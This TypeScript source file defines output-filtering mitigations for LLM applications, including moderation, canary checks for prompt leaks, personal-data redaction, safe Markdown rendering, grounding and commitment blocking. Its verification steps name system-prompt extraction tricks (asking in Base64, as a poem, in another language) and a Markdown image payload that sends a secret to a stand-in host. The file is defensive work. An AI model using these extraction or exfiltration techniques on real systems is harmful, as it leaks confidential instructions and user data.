import { step, type KnownAction } from '../known_action.js'

/** Changes to what leaves the model. */
export const outputActions: Record<string, KnownAction> = {
  'filter-harmful': {
    type: 'output_filtering',
    title: 'Check answers with a safety model before they are shown',
    description:
      'A model that was talked into something writes it all the same. A second model that sees only the answer, and not the attack, judges it without having been persuaded.',
    impact: 'Harmful content is stopped even when a new attack gets past the instructions.',
    effort: 'medium',
    timeEstimate: '2–4 days',
    steps: [
      step(
        'Run a moderation model on the finished answer, or on each paragraph when answers are streamed.',
        'const verdict = await moderate(answer)\nif (verdict.flagged) return SAFE_REPLY[verdict.category] ?? SAFE_REPLY.default'
      ),
      step('Set a threshold per category, stricter for what endangers people.'),
      step(
        'Log what was stopped with its category, without the text, and look at the counts weekly.'
      ),
    ],
    verify:
      'Feed the failed answers of this report to the filter alone: every one is stopped. Feed it a hundred ordinary answers: none is.',
  },
  'filter-secrets': {
    type: 'output_filtering',
    title: 'Keep instructions and secrets out of answers',
    description:
      'Compare each answer with the system prompt and with known secrets before it is sent. Take secrets out of the prompt altogether: what the model does not know it cannot say.',
    impact: 'A disclosure is caught by comparison, whatever trick produced it.',
    effort: 'low',
    timeEstimate: '3–6 hours',
    steps: [
      step(
        'Remove keys, internal addresses and names from the prompt; let code use them, not the model.'
      ),
      step(
        'Put a canary into the system prompt and stop answers that contain it or long pieces of the prompt.',
        'const leaks = answer.includes(CANARY) || sharesRunOfWords(answer, SYSTEM_PROMPT, 12)\nif (leaks) return "I can’t share how I am set up, but I am glad to help with your request."'
      ),
      step(
        'Compare after decoding Base64, hex and reversed text, and in every language that you serve.'
      ),
    ],
    verify:
      'Ask for the prompt as a poem, in Base64 and in another language: no answer holds the canary or twelve words in a row of the prompt.',
  },
  'redact-personal': {
    type: 'output_filtering',
    title: 'Redact personal data that the user has no claim to',
    description:
      'Detect names with contact data, account numbers, identity numbers and health facts in answers, and let through only those that belong to the signed-in person.',
    impact: 'Data of other people does not leave, even when a lookup returned too much.',
    effort: 'medium',
    timeEstimate: '2–4 days',
    steps: [
      step(
        'Run a detector for personal data on each answer (patterns with check digits, then a model for names).'
      ),
      step(
        'Compare what it finds with the record of the signed-in person and mask the rest.',
        'for (const found of detectPersonal(answer)) {\n  if (!session.person.owns(found.value)) answer = mask(answer, found)\n}'
      ),
      step('Do the same with tool results before they reach the model.'),
    ],
    verify:
      'Seed two customers, sign in as the first and ask for the second one’s address, phone and balance in ten ways: no value appears.',
  },
  'escape-output': {
    type: 'output_filtering',
    title: 'Show answers without letting them act',
    description:
      'Links and images in an answer are requests that the reader’s browser makes. Render answers as text, allow links to known hosts only, and never load pictures from addresses that the model wrote.',
    impact: 'Data cannot be carried away in the address of a picture or a link.',
    effort: 'low',
    timeEstimate: '2–4 hours',
    steps: [
      step(
        'Sanitize rendered Markdown and forbid foreign images by policy.',
        "Content-Security-Policy: default-src 'self'; img-src 'self' data:; connect-src 'self'"
      ),
      step('Show the host of each link, and ask before opening one that is not on your list.'),
      step('Treat structured output as untrusted: parse it with a schema, never evaluate it.'),
    ],
    verify:
      'Make the model answer with `![x](https://example.net/?q=SECRET)`: the browser’s network log shows no request to that host.',
  },
  'ground-answers': {
    type: 'output_filtering',
    title: 'Let answers rest on sources, and say so when there is none',
    description:
      'The model fills gaps with what sounds right. Give it the passages that it may use, ask for the passage behind each statement, and check the citation before the answer is shown.',
    impact: 'Invented facts become “I do not know”, which people can work with.',
    effort: 'high',
    timeEstimate: '1–2 weeks',
    steps: [
      step(
        'Retrieve passages first and answer from these only; lower the temperature for factual tasks.'
      ),
      step(
        'Ask for a citation per statement and drop statements whose citation does not hold.',
        'const { statements } = await answerWithCitations(question, passages)\nreturn statements.filter((s) => supports(passages[s.source], s.text))'
      ),
      step(
        'Answer “I don’t have that information” when nothing was found, with a way to a person.'
      ),
    ],
    verify:
      'Ask for ten things that your sources do not hold, and ten whose premise is false: each is answered with not knowing or with the correction.',
  },
  'check-figures': {
    type: 'output_filtering',
    title: 'Compute figures in code, not in prose',
    description:
      'Doses, fees, rates and totals that a language model writes are guesses that look exact. Let it name the inputs and let code compute and check the figure.',
    impact: 'A figure in an answer is right or absent.',
    effort: 'medium',
    timeEstimate: '3–5 days',
    steps: [
      step(
        'Give the model a calculation tool and refuse answers whose figures did not come from it.',
        'const used = new Set(toolResults.flatMap(numbersIn))\nconst invented = numbersIn(answer).filter((n) => !used.has(n) && !numbersIn(question).includes(n))\nif (invented.length > 0) return askAgainWithTool()'
      ),
      step('Check ranges: a dose, rate or price outside its usual bounds goes to a person.'),
    ],
    verify:
      'Run twenty calculations with known results, among them wrong figures given by the user: every figure is right, and the wrong ones are corrected.',
  },
  'block-commitments': {
    type: 'output_filtering',
    title: 'Keep the assistant from promising',
    description:
      'Discounts, refunds, deadlines and legal positions in an answer may bind you. Detect sentences that promise or agree, and let only texts through that a system of record has confirmed.',
    impact: 'Nothing is promised in your name that nobody has decided.',
    effort: 'medium',
    timeEstimate: '2–3 days',
    steps: [
      step('List what the assistant may offer, and keep it as data that code looks up.'),
      step(
        'Detect commitments in answers and replace them unless a tool confirmed them.',
        'if (statesCommitment(answer) && !toolResults.some(confirms)) return HAND_OVER_TEXT'
      ),
      step(
        'Say near the input that answers are information and no offer; this supports the filter and does not replace it.'
      ),
    ],
    verify:
      'Ask it to confirm a price of one euro, a refund outside the terms and a change of contract: no answer agrees to any.',
  },
}
